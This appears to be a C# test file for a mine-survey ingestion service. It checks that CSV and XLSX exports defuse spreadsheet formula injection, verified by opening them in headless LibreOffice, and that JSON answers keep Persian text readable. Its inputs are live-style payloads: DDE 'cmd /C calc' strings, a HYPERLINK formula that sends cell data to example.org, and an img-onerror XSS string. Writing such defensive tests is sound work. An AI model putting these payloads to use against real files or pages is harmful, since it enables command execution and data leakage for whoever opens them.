using System.Diagnostics;
using System.IO.Compression;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json;
using System.Text.RegularExpressions;
using MineIngest.Domain;
using MineIngest.Domain.Writing;
using MineIngest.Pipeline.Api;
using MineIngest.Pipeline.Office;
using MineIngest.TestData;

namespace MineIngest.Pipeline.Tests;

/// <summary>
/// Every file the system hands out is safe to open: a text a spreadsheet would run as a formula comes out inert, numbers
/// stay numbers, and the rows to fix, corrected and sent again, store the clerk's own text. Checked the way the programme
/// office opens files: LibreOffice, headless.
/// </summary>
[Collection(PipelineCollection.Name)]
public sealed class SafeExportsTests(PipelineFixture fixture)
{
    private const string Province = "gilan";
    private const string Hyperlink = "=HYPERLINK(\"http://example.org/?\"&A1,\"Click\")";
    private const string Command = "+cmd|' /C calc'!A0";
    private const string AtSum = "@SUM(1+1)*cmd|' /C calc'!A0";
    private const string MinusFormula = "-2+3+cmd|' /C calc'!A0";

    [Fact]
    public async Task Formula_like_text_is_inert_in_every_csv_and_xlsx_export_numbers_stay_numbers_and_fixed_rows_keep_their_text()
    {
        // Accepted (tier A or B, financial: on the investor list) and rejected rows, each with text that starts a formula;
        // a tab and a carriage return before a formula are trimmed by the reader, what follows them is still a formula.
        var survey = new SurveyBuilder()
            .Add(RowBuilder.WorkedExample("SAFE-1", Province).Set("mine_name", Hyperlink).Set("county", Command).Set("notes", AtSum))
            .Add(RowBuilder.WorkedExample("SAFE-2", Province).Set("mine_name", MinusFormula).Set("county", "\t=1+2").Set("notes", "\r@SUM(1)"))
            .Add(RowBuilder.WorkedExample("SAFE-3", Province).Set("mine_name", "=1+1").Set("county", Command).Set("notes", "-1+1").Set("jobs_potential", -5))
            .Add(RowBuilder.WorkedExample("SAFE-4", Province).Set("mine_name", "@SUM(1+1)").Set("county", Hyperlink).Set("latitude", 41.2));
        var blob = $"{Province}/safe-exports.csv";
        await fixture.UploadAsync(blob, survey.ToCsv());
        var report = await PipelineFixture.WaitForSurveyAsync(fixture.Http, blob);
        Assert.Equal((2, 2), (report.GetProperty("accepted").GetInt32(), report.GetProperty("rejected").GetInt32()));
        var id = report.GetProperty("id").GetString();
        var stored = await fixture.Http.GetFromJsonAsync<JsonElement>($"/api/mines/{Province}/SAFE-1");
        Assert.Equal((Hyperlink, Command), (stored.GetProperty("name").GetString(), stored.GetProperty("county").GetString()));

        var rowsToFixCsv = await fixture.Http.GetByteArrayAsync($"/api/surveys/{id}/errors.csv");
        var investorCsv = await fixture.Http.GetByteArrayAsync($"/api/investor-list.csv?province={Province}");
        var rankingCsv = await fixture.Http.GetByteArrayAsync($"/api/mines.csv?province={Province}");
        Assert.Contains("'=1+1", Encoding.UTF8.GetString(rowsToFixCsv));   // guarded as written...
        Assert.Contains("'" + MinusFormula, Encoding.UTF8.GetString(investorCsv));
        Assert.Contains(",-5,", Encoding.UTF8.GetString(rowsToFixCsv));    // ...and a negative number is left as it is
        Assert.Equal(2, Encoding.UTF8.GetString(investorCsv).Split("\n", StringSplitOptions.RemoveEmptyEntries).Length - 1);

        // The check can fail: the same text unguarded opens as a live formula.
        Assert.Matches("<f[ >]", await OpenedBySpreadsheetAsync("unguarded.csv", Encoding.UTF8.GetBytes($"name\r\n\"{Hyperlink.Replace("\"", "\"\"")}\"\r\n")));
        foreach (var (name, csv) in new[] { ("rows-to-fix.csv", rowsToFixCsv), ("investor-list.csv", investorCsv), ("ranking.csv", rankingCsv) })
        {
            var sheets = await OpenedBySpreadsheetAsync(name, csv);
            Assert.DoesNotMatch("<f[ >]", sheets);
            if (name == "rows-to-fix.csv") Assert.Matches("<c [^>]*t=\"n\"[^>]*><v>-5</v>", sheets);   // a number, not text
            if (name != "rows-to-fix.csv") Assert.Matches("<c [^>]*t=\"n\"[^>]*><v>20</v>", sheets);   // potential jobs
        }

        var rowsToFixXlsx = await fixture.Http.GetByteArrayAsync($"/api/surveys/{id}/errors.xlsx");
        var investorXlsx = await fixture.Http.GetByteArrayAsync($"/api/investor-list.xlsx?province={Province}");
        foreach (var xlsx in new[] { rowsToFixXlsx, investorXlsx })
        {
            var sheets = SheetXml(xlsx);
            Assert.DoesNotMatch("<f[ >]", sheets);
            Assert.Contains("=HYPERLINK", WebUtility(sheets)); // the text is there, as a string cell
        }
        Assert.Matches("<c( [^>]*)?><v>-5</v></c>", SheetXml(rowsToFixXlsx));     // jobs_potential as a number cell
        Assert.DoesNotMatch("<c [^>]*t=\"(s|str|inlineStr)\"[^>]*><v>-5</v>", SheetXml(rowsToFixXlsx));

        // The rows to fix, corrected where they were wrong and sent again, store exactly the clerk's text.
        var corrected = Encoding.UTF8.GetString(rowsToFixCsv).Replace(",-5,", ",5,").Replace("41.2", "29.4");
        await fixture.UploadAsync($"{Province}/safe-exports-fixed.csv", Encoding.UTF8.GetBytes(corrected));
        var second = await PipelineFixture.WaitForSurveyAsync(fixture.Http, $"{Province}/safe-exports-fixed.csv");
        Assert.Equal((2, 0), (second.GetProperty("accepted").GetInt32(), second.GetProperty("rejected").GetInt32()));
        var three = await fixture.Http.GetFromJsonAsync<JsonElement>($"/api/mines/{Province}/SAFE-3");
        Assert.Equal(("=1+1", Command), (three.GetProperty("name").GetString(), three.GetProperty("county").GetString()));
        var four = await fixture.Http.GetFromJsonAsync<JsonElement>($"/api/mines/{Province}/SAFE-4");
        Assert.Equal(("@SUM(1+1)", Hyperlink), (four.GetProperty("name").GetString(), four.GetProperty("county").GetString()));
        // Exported again, neutralised again.
        Assert.Contains("'@SUM(1+1)", Encoding.UTF8.GetString(await fixture.Http.GetByteArrayAsync($"/api/mines.csv?province={Province}")));
    }

    [Fact]
    public async Task Answers_write_persian_as_text_and_still_escape_what_html_needs()
    {
        var blob = $"{Province}/persian-json.csv";
        await fixture.UploadAsync(blob, new SurveyBuilder().Add(RowBuilder.WorkedExample("PJSON-1", Province).Set("latitude", 41.2)
            .Set("mine_name", "<img src=x onerror=alert(1)>")).ToCsv());
        var report = await PipelineFixture.WaitForSurveyAsync(fixture.Http, blob);
        var body = await fixture.Http.GetStringAsync($"/api/surveys/{report.GetProperty("id").GetString()}");
        Assert.Contains("عرض جغرافیایی", body);
        Assert.DoesNotContain("\\u06", body);
        Assert.DoesNotContain("\\u062", body);

        var problem = await fixture.Http.GetAsync("/api/provinces/gilan/surveys?blob=gilan/x.csv");
        var problemBody = await problem.Content.ReadAsStringAsync();
        Assert.DoesNotContain("\\u06", problemBody);
        Assert.Matches("[\u0600-\u06FF]", problemBody);
    }

    [Fact]
    public void Every_value_a_person_reads_has_its_persian_name_in_the_one_catalogue()
    {
        var reference = ReferenceData.Default;
        var enumerations = new Dictionary<string, IReadOnlyList<string>>
        {
            ["tier"] = ["A", "B", "C"],
            ["survey-status"] = ["processing", "completed", "rejected", "withdrawing", "withdrawn"],
            ["committee-outcome"] = CommitteeOutcomes.All,
            ["solution-state"] = OfficeApi.SolutionStates,
        };
        Assert.Equal(enumerations.Keys.Order(), reference.Lists.Keys.Order());
        foreach (var (list, values) in enumerations)
        {
            Assert.Equal(values.Order(), reference.Lists[list].Select(v => v.Slug).Order());
            foreach (var value in values) Assert.Matches("^[\u0600-\u06FF\u200C ]+$", reference.Named(list, value).Persian);
        }
        foreach (var named in reference.Statuses.Concat(reference.Problems.Select(p => new NamedValue(p.Slug, p.English, p.Persian)))
                     .Concat(reference.Provinces.Select(p => new NamedValue(p.Slug, p.English, p.Persian)))
                     .Concat(reference.Minerals.Select(m => new NamedValue(m.Slug, m.English, m.Persian))))
            Assert.Matches("[\u0600-\u06FF]", named.Persian);
        foreach (var column in SurveyColumns.All) Assert.Matches("[\u0600-\u06FF]", column.Persian);
        Assert.Equal("قرارداد امضا شد - Agreement signed", reference.Both("committee-outcome", "agreement-signed"));
    }

    /// <summary>The worksheets of <paramref name="csv"/> as LibreOffice opens it and saves it as xlsx.</summary>
    private static async Task<string> OpenedBySpreadsheetAsync(string name, byte[] csv)
    {
        var folder = Directory.CreateTempSubdirectory("safe-export-");
        try
        {
            var path = Path.Combine(folder.FullName, name);
            await File.WriteAllBytesAsync(path, csv);
            var start = new ProcessStartInfo("soffice", ["--headless", $"-env:UserInstallation=file://{folder.FullName}/profile",
                "--convert-to", "xlsx", "--outdir", folder.FullName, path])
            { RedirectStandardOutput = true, RedirectStandardError = true };
            using var process = Process.Start(start) ?? throw new InvalidOperationException("soffice did not start");
            var output = await process.StandardOutput.ReadToEndAsync() + await process.StandardError.ReadToEndAsync();
            await process.WaitForExitAsync(new CancellationTokenSource(TimeSpan.FromMinutes(2)).Token);
            Assert.True(process.ExitCode == 0, output);
            return SheetXml(await File.ReadAllBytesAsync(Path.ChangeExtension(path, ".xlsx")));
        }
        finally
        {
            folder.Delete(recursive: true);
        }
    }

    private static string SheetXml(byte[] xlsx)
    {
        using var zip = new ZipArchive(new MemoryStream(xlsx));
        return string.Concat(zip.Entries.Where(e => e.FullName.StartsWith("xl/worksheets/", StringComparison.Ordinal) && e.FullName.EndsWith(".xml", StringComparison.Ordinal))
            .Select(e => new StreamReader(e.Open()).ReadToEnd()));
    }

    private static string WebUtility(string xml) => System.Net.WebUtility.HtmlDecode(xml);
}
